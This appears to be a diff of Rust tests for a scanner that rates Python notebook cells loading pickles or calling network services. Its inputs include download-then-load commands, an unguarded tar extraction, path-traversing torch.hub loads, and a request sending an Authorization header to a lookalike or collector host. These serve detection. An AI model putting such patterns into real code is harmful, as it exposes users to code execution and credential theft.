@@ -94,13 +94,51 @@ fn a_dump_that_need_not_happen_leaves_what_was_there() {
         "class S:\n    def __enter__(s): pass\n    def __exit__(s, *a): return True\nwith S():\n    joblib.dump(m, 'm.joblib')",
         "raise SystemExit\njoblib.dump(m, 'm.joblib')",
         "exit()\njoblib.dump(m, 'm.joblib')",
-        "def f(): joblib.dump(m, 'm.joblib')",
         "x = joblib.dump(m, 'm.joblib') if os.environ.get('x') else 1",
-        "[joblib.dump(m, 'm.joblib') for i in []]",
         "joblib.dump(lambda: 1, 'm.joblib')",
     ] {
         assert!(outcome(&[BEFORE, dump, "joblib.load('m.joblib')"]) >= Outcome::Suspicious, "{dump}");
     }
+}
+
+#[test]
+fn a_pickle_of_whoever_runs_a_notebook_is_not_here() {
+    for cells in [
+        &[LOAD][..],
+        &["!pip install -q numpy\n!ls", "os.makedirs('out', exist_ok=True)", "joblib.load('m.joblib')"],
+        &["with open('metrics.json', 'w') as f: json.dump({}, f)", LOAD],
+        &["def f(): joblib.dump(m, 'm.joblib')", "joblib.load('m.joblib')"],
+    ] {
+        assert_eq!(outcome(&[&[BEFORE], cells].concat()), Outcome::Unscannable, "{cells:#?}");
+    }
+    for before in [
+        "!wget https://example.org/m.pkl",
+        "import requests\nopen('m.pkl', 'wb').write(requests.get('https://example.org/m').content)",
+        "import requests\nopen(os.environ['X'], 'wb').write(requests.get('https://example.org/m').content)",
+        "import urllib.request\nurllib.request.urlretrieve('https://example.org/m', 'm.pkl')",
+        "from huggingface_hub import snapshot_download\nsnapshot_download('a/b', local_dir='.')",
+        "import gdown\ngdown.download('https://example.org/x')",
+        "%%writefile m.pkl\ncos",
+        "import tarfile\ntarfile.open('x.tar').extractall()",
+    ] {
+        assert!(outcome(&[BEFORE, before, LOAD]) >= Outcome::Suspicious, "{before}");
+    }
+}
+
+#[test]
+fn services_and_owners_that_everybody_asks_are_not_told_of() {
+    let asks = |address: &str| {
+        format!(
+            "import requests\nrequests.post('{address}', headers={{'Authorization': 'x'}}, json={{'model': 'a'}})"
+        )
+    };
+    assert_eq!(outcome(&[&asks("https://api.openai.com/v1/chat/completions")]), Outcome::Clean);
+    assert!(outcome(&[&asks("https://api.openai.com.example.org/v1")]) >= Outcome::Suspicious);
+    assert!(outcome(&[&asks("https://collector.example.org/v1")]) >= Outcome::Suspicious);
+    let loads = |of: &str| format!("import torch\nmodel = torch.hub.load('{of}', 'm')");
+    assert_eq!(outcome(&[&loads("pytorch/vision:v0.10.0")]), Outcome::Clean);
+    assert!(outcome(&[&loads("somebody/vision")]) >= Outcome::Suspicious);
+    assert!(outcome(&[&loads("pytorch/../x")]) >= Outcome::Suspicious);
 }
 
 #[test]
